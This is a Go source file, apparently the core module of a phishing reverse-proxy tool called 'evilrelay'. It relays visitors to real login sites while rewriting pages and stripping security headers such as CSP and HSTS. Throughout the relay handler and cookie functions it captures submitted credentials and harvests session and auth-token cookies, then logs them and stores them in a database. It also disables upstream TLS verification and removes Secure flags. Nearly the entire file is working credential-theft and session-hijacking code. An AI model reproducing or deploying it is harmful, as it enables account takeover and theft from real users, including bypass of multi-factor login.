package core

import (
	"crypto/tls"
	"fmt"
	"io"
	"mime"
	"net"
	"net/http"
	"net/url"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/go-resty/resty/v2"
	"github.com/gorilla/mux"
	http_dialer "github.com/mwitkow/go-http-dialer"
	"golang.org/x/net/html/charset"
	"golang.org/x/net/proxy"

	"github.com/evilrelay/evilrelay/database"
	"github.com/evilrelay/evilrelay/log"
)

const (
	SESSION_COOKIE_MAX_AGE = 86400
	UPSTREAM_TIMEOUT       = 30 * time.Second
)

// Response headers never forwarded to the browser. Security policy headers
// would stop the rewritten page from loading its resources through the
// relay; the rest are hop-by-hop or recomputed.
var rm_headers = []string{
	"Content-Security-Policy",
	"Content-Security-Policy-Report-Only",
	"Strict-Transport-Security",
	"X-Frame-Options",
	"X-XSS-Protection",
	"X-Content-Type-Options",
	"Public-Key-Pins",
	"Report-To",
	"Cross-Origin-Opener-Policy",
	"Cross-Origin-Embedder-Policy",
	"Cross-Origin-Resource-Policy",
	"Content-Length",
	"Content-Encoding",
	"Transfer-Encoding",
	"Connection",
	"Keep-Alive",
}

// Request headers forwarded upstream. Referer and Origin are handled
// separately because they need restoring; Cookie is rebuilt from the
// session jar.
var fwd_headers = []string{
	"Accept",
	"Accept-Language",
	"Content-Type",
	"User-Agent",
	"X-Requested-With",
	"Cache-Control",
	"Pragma",
}

type Stats struct {
	Targets         int `json:"targets"`
	ActiveTargets   int `json:"active_targets"`
	Sessions        int `json:"sessions"`
	Authenticated   int `json:"authenticated_sessions"`
	CapturedCreds   int `json:"captured_credentials"`
	CapturedCookies int `json:"captured_cookies"`
	CachedPages     int `json:"cached_pages"`
}

type HttpRelay struct {
	Server   *http.Server
	Targets  *TargetRegistry
	Sessions *SessionStore
	Cache    *PageCache
	Metrics  *Metrics

	cfg      *Config
	db       *database.Database
	rewriter Rewriter
	detector *AuthDetector
	client   *resty.Client
	rtr      *mux.Router

	isRunning bool
	mtx       sync.Mutex
}

func NewHttpRelay(hostname string, port int, cfg *Config, db *database.Database) (*HttpRelay, error) {
	p := &HttpRelay{
		Targets:  NewTargetRegistry(),
		Sessions: NewSessionStore(),
		Cache:    NewPageCache(time.Duration(cfg.GetCacheTTL()) * time.Second),
		Metrics:  NewMetrics(),
		cfg:      cfg,
		db:       db,
		detector: NewAuthDetector(),
	}

	external := cfg.GetExternalHost()
	if external == "" {
		external = hostname
		if external == "" || external == "0.0.0.0" {
			external = "127.0.0.1"
		}
	}
	base := "http://" + external
	if port != 80 {
		base = fmt.Sprintf("http://%s:%d", external, port)
	}
	p.rewriter = NewLiteralRewriter(base)

	hc := &http.Client{
		Transport: &http.Transport{
			TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
		},
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
		Timeout: UPSTREAM_TIMEOUT,
	}
	p.client = resty.NewWithClient(hc)
	p.client.SetHeader("Accept-Encoding", "identity")
	p.client.SetLogger(nullRestyLogger{})

	pc := cfg.GetProxyConfig()
	if err := p.setProxy(pc.Enabled, pc.Type, pc.Address, pc.Port, pc.Username, pc.Password); err != nil {
		return nil, err
	}

	p.rtr = mux.NewRouter()
	p.rtr.Use(p.recoverMiddleware)
	p.rtr.HandleFunc("/", p.handleLanding).Methods("GET")
	p.rtr.HandleFunc("/_ext/{domain}/{path:.*}", p.handleExternal)
	p.rtr.HandleFunc("/{target_id}", p.handleRelay)
	p.rtr.HandleFunc("/{target_id}/{path:.*}", p.handleRelay)

	p.Server = &http.Server{
		Addr:         fmt.Sprintf("%s:%d", hostname, port),
		Handler:      p.rtr,
		ReadTimeout:  45 * time.Second,
		WriteTimeout: 45 * time.Second,
		ErrorLog:     log.NullLogger(),
	}

	for _, t := range cfg.GetTargets() {
		t.IsActive = false
		if err := p.Targets.Register(t); err != nil {
			log.Warning("config: skipping target '%s': %v", t.Id, err)
		}
	}
	return p, nil
}

type nullRestyLogger struct{}

func (nullRestyLogger) Errorf(format string, v ...interface{}) {}
func (nullRestyLogger) Warnf(format string, v ...interface{})  {}
func (nullRestyLogger) Debugf(format string, v ...interface{}) {}

func (p *HttpRelay) Start() {
	go func() {
		log.Info("relay listening on: %s", p.Server.Addr)
		err := p.Server.ListenAndServe()
		if err != nil && err != http.ErrServerClosed {
			log.Fatal("relay: %v", err)
		}
	}()
	p.mtx.Lock()
	p.isRunning = true
	p.mtx.Unlock()
}

func (p *HttpRelay) setProxy(enabled bool, ptype string, address string, port int, username string, password string) error {
	if !enabled {
		return nil
	}
	if !stringExists(ptype, PROXY_TYPES) {
		return fmt.Errorf("invalid proxy type: %s", ptype)
	}
	if address == "" {
		return fmt.Errorf("proxy address can't be empty")
	}
	if port == 0 {
		return fmt.Errorf("proxy port can't be 0")
	}
	u, err := url.Parse(fmt.Sprintf("%s://%s:%d", ptype, address, port))
	if err != nil {
		return err
	}
	var dialer proxy.Dialer
	switch ptype {
	case "http", "https":
		if username != "" {
			dialer = http_dialer.New(u, http_dialer.WithProxyAuth(http_dialer.AuthBasic(username, password)))
		} else {
			dialer = http_dialer.New(u)
		}
	case "socks5", "socks5h":
		if username != "" {
			u.User = url.UserPassword(username, password)
		}
		dialer, err = proxy.FromURL(u, proxy.Direct)
		if err != nil {
			return err
		}
	}
	tr := p.client.GetClient().Transport.(*http.Transport)
	tr.Dial = func(network string, addr string) (net.Conn, error) {
		return dialer.Dial(network, addr)
	}
	log.Info("outbound proxy set to: %s://%s:%d", ptype, address, port)
	return nil
}

func (p *HttpRelay) recoverMiddleware(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		defer func() {
			if rec := recover(); rec != nil {
				log.Error("relay: panic serving %s %s: %v", r.Method, r.URL.Path, rec)
				http.Error(w, "internal relay error", http.StatusInternalServerError)
			}
		}()
		next.ServeHTTP(w, r)
	})
}

func (p *HttpRelay) handleLanding(w http.ResponseWriter, r *http.Request) {
	var sb strings.Builder
	sb.WriteString("<html><head><title>relay</title></head><body><h3>active relays</h3><ul>")
	for _, t := range p.Targets.List() {
		if t.IsActive {
			sb.WriteString(fmt.Sprintf("<li><a href=\"/%s/\">%s</a> (%s)</li>", t.Id, t.Name, t.TargetHost))
		} else {
			sb.WriteString(fmt.Sprintf("<li>%s (%s) - stopped</li>", t.Name, t.TargetHost))
		}
	}
	sb.WriteString("</ul></body></html>")
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.Write([]byte(sb.String()))
}

// handleExternal proxies resources that the rewriter redirected from CDN
// and asset domains. No session handling, minimal header surface.
func (p *HttpRelay) handleExternal(w http.ResponseWriter, r *http.Request) {
	vars := mux.Vars(r)
	domain := vars["domain"]
	path := "/" + vars["path"]
	if r.URL.RawQuery != "" {
		path += "?" + r.URL.RawQuery
	}
	p.Metrics.ExternalRequests.Inc()

	req := p.client.R().SetContext(r.Context())
	for _, h := range []string{"Accept", "Accept-Language", "User-Agent", "Content-Type"} {
		if v := r.Header.Get(h); v != "" {
			req.SetHeader(h, v)
		}
	}
	if r.Body != nil {
		body, err := io.ReadAll(r.Body)
		if err == nil && len(body) > 0 {
			req.SetBody(body)
		}
	}
	resp, err := req.Execute(r.Method, "https://"+domain+path)
	if err != nil {
		log.Debug("external: %s%s: %v", domain, path, err)
		http.Error(w, fmt.Sprintf("upstream unreachable: %s", domain), http.StatusBadGateway)
		return
	}
	for k, vv := range resp.Header() {
		if stringExists(http.CanonicalHeaderKey(k), rm_headers) || strings.EqualFold(k, "Set-Cookie") {
			continue
		}
		for _, v := range vv {
			w.Header().Add(k, v)
		}
	}
	w.WriteHeader(resp.StatusCode())
	w.Write(resp.Body())
}

func (p *HttpRelay) handleRelay(w http.ResponseWriter, r *http.Request) {
	vars := mux.Vars(r)
	target_id := vars["target_id"]
	path := "/" + vars["path"]

	t, err := p.Targets.Lookup(target_id)
	if err != nil || !t.IsActive {
		http.Error(w, "proxied target not found", http.StatusNotFound)
		return
	}

	upstream_path := path
	if r.URL.RawQuery != "" {
		upstream_path += "?" + r.URL.RawQuery
	}

	session, is_new := p.resolveSession(r, t)
	if is_new {
		session.RemoteAddr = originFromAddr(r.RemoteAddr)
		session.UserAgent = r.UserAgent()
		session.LandingPath = path
		p.Metrics.SessionsCreated.Inc()
		log.Info("[%s] new visitor session: %s (%s)", t.Id, truncateString(session.Id, 8), session.RemoteAddr)
		if p.db != nil {
			if err := p.db.CreateSession(session.Id, t.Id, path, session.UserAgent, session.RemoteAddr); err != nil {
				log.Debug("database: %v", err)
			}
		}
	}

	if r.Method == http.MethodGet {
		if page, ok := p.Cache.Get(t.Id, upstream_path); ok {
			p.Metrics.CacheHits.Inc()
			for k, vv := range page.Headers {
				for _, v := range vv {
					w.Header().Add(k, v)
				}
			}
			w.Header().Set("Content-Type", page.ContentType)
			p.setTrackingCookie(w, t, session)
			w.WriteHeader(http.StatusOK)
			w.Write(page.Content)
			session.LogRequest(r.Method, path, http.StatusOK)
			p.Metrics.RelayedRequests.WithLabelValues(t.Id, "2xx").Inc()
			return
		}
		p.Metrics.CacheMisses.Inc()
	}

	var body []byte
	if r.Body != nil {
		body, _ = io.ReadAll(r.Body)
	}
	if len(body) > 0 {
		if creds := captureFromBody(body, r.Header.Get("Content-Type"), t); len(creds) > 0 {
			session.MergeCredentials(creds)
			p.Metrics.CapturedCreds.Add(float64(len(creds)))
			for k, v := range creds {
				log.Success("[%s] credential captured: %s = [%s]", t.Id, k, truncateString(v, 64))
			}
			if p.db != nil {
				if err := p.db.SetSessionCredentials(session.Id, session.CredentialsCopy()); err != nil {
					log.Debug("database: %v", err)
				}
			}
		}
	}

	req := p.client.R().SetContext(r.Context())
	for _, h := range fwd_headers {
		if v := r.Header.Get(h); v != "" {
			req.SetHeader(h, v)
		}
	}
	if v := r.Header.Get("Referer"); v != "" {
		req.SetHeader("Referer", p.rewriter.RestoreURL(t, v))
	}
	if v := r.Header.Get("Origin"); v != "" {
		req.SetHeader("Origin", strings.TrimSuffix(p.rewriter.RestoreURL(t, v), "/"))
	}
	if cookie_hdr := buildCookieHeader(session.CookiesCopy()); cookie_hdr != "" {
		req.SetHeader("Cookie", cookie_hdr)
	}
	if len(body) > 0 {
		req.SetBody(body)
	}

	resp, err := req.Execute(r.Method, t.BaseURL()+upstream_path)
	if err != nil {
		p.Metrics.UpstreamErrors.WithLabelValues(t.Id).Inc()
		log.Error("[%s] upstream fetch failed: %s: %v", t.Id, t.TargetHost, err)
		http.Error(w, fmt.Sprintf("upstream unreachable: %s", t.TargetHost), http.StatusBadGateway)
		session.LogRequest(r.Method, path, http.StatusBadGateway)
		return
	}

	set_cookies := resp.Header().Values("Set-Cookie")
	p.captureCookies(t, session, set_cookies)
	p.detectAuth(t, session, upstream_path)

	out_headers := filterResponseHeaders(resp.Header())
	for k, vv := range out_headers {
		for _, v := range vv {
			w.Header().Add(k, v)
		}
	}
	if loc := resp.Header().Get("Location"); loc != "" {
		w.Header().Set("Location", p.rewriter.RewriteURL(t, loc))
	}
	for _, sc := range set_cookies {
		w.Header().Add("Set-Cookie", sanitizeSetCookie(t, sc))
	}
	p.setTrackingCookie(w, t, session)

	out := resp.Body()
	ctype := resp.Header().Get("Content-Type")
	if isTextualContentType(ctype) {
		decoded, final_ctype, err := decodeTextBody(out, ctype)
		if err != nil {
			log.Warning("[%s] response decode failed for %s, passing through: %v", t.Id, path, err)
		} else {
			out = []byte(p.rewriter.RewriteBody(t, decoded))
			ctype = final_ctype
			w.Header().Set("Content-Type", ctype)
		}
	}

	status := resp.StatusCode()
	if r.Method == http.MethodGet && status >= 200 && status < 300 && len(set_cookies) == 0 {
		p.Cache.Put(t.Id, upstream_path, out, ctype, out_headers)
	}

	w.WriteHeader(status)
	w.Write(out)
	session.LogRequest(r.Method, path, status)
	p.Metrics.RelayedRequests.WithLabelValues(t.Id, statusClass(status)).Inc()
}

// resolveSession finds the visitor's session from the tracking cookie or
// creates a fresh one. A cookie pointing at another target's session is
// ignored rather than hijacked.
func (p *HttpRelay) resolveSession(r *http.Request, t *Target) (*Session, bool) {
	if c, err := r.Cookie(p.cfg.GetCookieName()); err == nil {
		if s, err := p.Sessions.Get(c.Value); err == nil && s.TargetId == t.Id {
			return s, false
		}
	}
	return p.Sessions.Create(t.Id), true
}

func (p *HttpRelay) setTrackingCookie(w http.ResponseWriter, t *Target, s *Session) {
	http.SetCookie(w, &http.Cookie{
		Name:     p.cfg.GetCookieName(),
		Value:    s.Id,
		Path:     "/" + t.Id,
		MaxAge:   SESSION_COOKIE_MAX_AGE,
		HttpOnly: true,
	})
}

// captureCookies merges upstream Set-Cookie values into the session jar.
// Cookies named in capture_cookies or auth_tokens additionally land in the
// session token map, on every response, whether or not the session is
// already authenticated.
func (p *HttpRelay) captureCookies(t *Target, s *Session, set_cookies []string) {
	tokens_dirty := false
	for _, sc := range set_cookies {
		name, value, ok := splitCookiePair(sc)
		if !ok {
			continue
		}
		s.SetCookie(name, value)
		p.Metrics.CapturedCookies.Inc()
		if stringExists(name, t.CaptureCookies) || stringExists(name, t.AuthTokens) {
			s.SetToken(name, value)
			tokens_dirty = true
			log.Important("[%s] token cookie captured: %s", t.Id, name)
		} else {
			log.Debug("[%s] cookie: %s", t.Id, name)
		}
	}
	if len(set_cookies) > 0 && p.db != nil {
		if err := p.db.SetSessionCookies(s.Id, s.CookiesCopy()); err != nil {
			log.Debug("database: %v", err)
		}
		if tokens_dirty {
			if err := p.db.SetSessionTokens(s.Id, s.TokensCopy()); err != nil {
				log.Debug("database: %v", err)
			}
		}
	}
}

func (p *HttpRelay) detectAuth(t *Target, s *Session, req_path string) {
	if !p.detector.IsAuthenticated(t, s, req_path) {
		return
	}
	if !s.Authenticate() {
		return
	}
	p.Metrics.SessionsAuthed.Inc()
	log.Success("[%s] session authenticated: %s", t.Id, truncateString(s.Id, 8))
	if p.db != nil {
		if err := p.db.SetSessionTokens(s.Id, s.TokensCopy()); err != nil {
			log.Debug("database: %v", err)
		}
		if err := p.db.SetSessionAuthenticated(s.Id, true); err != nil {
			log.Debug("database: %v", err)
		}
	}
}

// StartTarget activates a registered target and primes its landing page.
func (p *HttpRelay) StartTarget(id string, port int) (*Target, error) {
	t, err := p.Targets.Activate(id, port)
	if err != nil {
		return nil, err
	}
	p.cfg.SaveTargets(p.Targets.List())
	log.Important("[%s] relay started for %s", t.Id, t.TargetHost)
	go p.Preload(id)
	return t, nil
}

func (p *HttpRelay) StopTarget(id string) (*Target, error) {
	t, err := p.Targets.Deactivate(id)
	if err != nil {
		return nil, err
	}
	p.Cache.Purge(id)
	p.cfg.SaveTargets(p.Targets.List())
	log.Info("[%s] relay stopped", t.Id)
	return t, nil
}

// Preload fetches and rewrites the target's front page into the cache so
// the first visitor gets an instant response.
func (p *HttpRelay) Preload(id string) error {
	t, err := p.Targets.Lookup(id)
	if err != nil {
		return err
	}
	resp, err := p.client.R().Execute(http.MethodGet, t.BaseURL()+"/")
	if err != nil {
		log.Debug("[%s] preload failed: %v", t.Id, err)
		return err
	}
	if resp.StatusCode() != http.StatusOK || len(resp.Header().Values("Set-Cookie")) > 0 {
		return nil
	}
	ctype := resp.Header().Get("Content-Type")
	if !isTextualContentType(ctype) {
		return nil
	}
	decoded, final_ctype, err := decodeTextBody(resp.Body(), ctype)
	if err != nil {
		return err
	}
	p.Cache.Put(t.Id, "/", []byte(p.rewriter.RewriteBody(t, decoded)), final_ctype, filterResponseHeaders(resp.Header()))
	log.Debug("[%s] landing page preloaded", t.Id)
	return nil
}

func (p *HttpRelay) Stats() Stats {
	active := 0
	targets := p.Targets.List()
	for _, t := range targets {
		if t.IsActive {
			active++
		}
	}
	return Stats{
		Targets:         len(targets),
		ActiveTargets:   active,
		Sessions:        p.Sessions.Count(),
		Authenticated:   p.Sessions.CountAuthenticated(),
		CapturedCreds:   p.Sessions.TotalCredentials(),
		CapturedCookies: p.Sessions.TotalCookies(),
		CachedPages:     p.Cache.Len(),
	}
}

// RegisterTarget validates, registers and persists a new target.
func (p *HttpRelay) RegisterTarget(t *Target) (*Target, error) {
	nt, err := NewTarget(t)
	if err != nil {
		return nil, err
	}
	if err := p.Targets.Register(nt); err != nil {
		return nil, err
	}
	p.cfg.SaveTargets(p.Targets.List())
	log.Info("[%s] target registered: %s", nt.Id, nt.TargetHost)
	return nt, nil
}

func (p *HttpRelay) RemoveTarget(id string) error {
	if err := p.Targets.Remove(id); err != nil {
		return err
	}
	p.Cache.Purge(id)
	p.cfg.SaveTargets(p.Targets.List())
	log.Info("[%s] target removed", id)
	return nil
}

// filterResponseHeaders keeps the upstream headers safe to hand to the
// browser. Set-Cookie and Location need per-response handling, so they
// are filtered here too and re-added sanitized by the caller.
func filterResponseHeaders(h http.Header) http.Header {
	out := make(http.Header, len(h))
	for k, vv := range h {
		ck := http.CanonicalHeaderKey(k)
		if stringExists(ck, rm_headers) || ck == "Set-Cookie" || ck == "Location" {
			continue
		}
		for _, v := range vv {
			out.Add(ck, v)
		}
	}
	return out
}

func buildCookieHeader(cookies map[string]string) string {
	if len(cookies) == 0 {
		return ""
	}
	names := make([]string, 0, len(cookies))
	for name := range cookies {
		names = append(names, name)
	}
	sort.Strings(names)
	pairs := make([]string, 0, len(names))
	for _, name := range names {
		pairs = append(pairs, name+"="+cookies[name])
	}
	return strings.Join(pairs, "; ")
}

func splitCookiePair(set_cookie string) (string, string, bool) {
	pair := set_cookie
	if i := strings.IndexByte(pair, ';'); i >= 0 {
		pair = pair[:i]
	}
	i := strings.IndexByte(pair, '=')
	if i <= 0 {
		return "", "", false
	}
	return strings.TrimSpace(pair[:i]), strings.TrimSpace(pair[i+1:]), true
}

// sanitizeSetCookie makes an upstream Set-Cookie storable against the
// relay origin: the Domain attribute for target hosts goes away and so
// does Secure, since the relay side runs plain HTTP.
func sanitizeSetCookie(t *Target, set_cookie string) string {
	out := stripCookieDomain(t, set_cookie)
	parts := strings.Split(out, ";")
	var kept []string
	for i, part := range parts {
		if i > 0 && strings.EqualFold(strings.TrimSpace(part), "secure") {
			continue
		}
		kept = append(kept, part)
	}
	return strings.Join(kept, ";")
}

func isTextualContentType(ctype string) bool {
	mt, _, err := mime.ParseMediaType(ctype)
	if err != nil {
		return false
	}
	if strings.HasPrefix(mt, "text/") {
		return true
	}
	switch mt {
	case "application/javascript", "application/x-javascript", "application/json",
		"application/xml", "application/xhtml+xml", "image/svg+xml":
		return true
	}
	return false
}

// decodeTextBody converts a response body to UTF-8 using its declared
// charset and returns the adjusted Content-Type.
func decodeTextBody(body []byte, ctype string) (string, string, error) {
	rd, err := charset.NewReader(strings.NewReader(string(body)), ctype)
	if err != nil {
		return "", "", err
	}
	decoded, err := io.ReadAll(rd)
	if err != nil {
		return "", "", err
	}
	mt, params, err := mime.ParseMediaType(ctype)
	if err != nil {
		return string(decoded), ctype, nil
	}
	if _, ok := params["charset"]; ok {
		params["charset"] = "utf-8"
	}
	return string(decoded), mime.FormatMediaType(mt, params), nil
}

func statusClass(status int) string {
	switch {
	case status >= 500:
		return "5xx"
	case status >= 400:
		return "4xx"
	case status >= 300:
		return "3xx"
	default:
		return "2xx"
	}
}
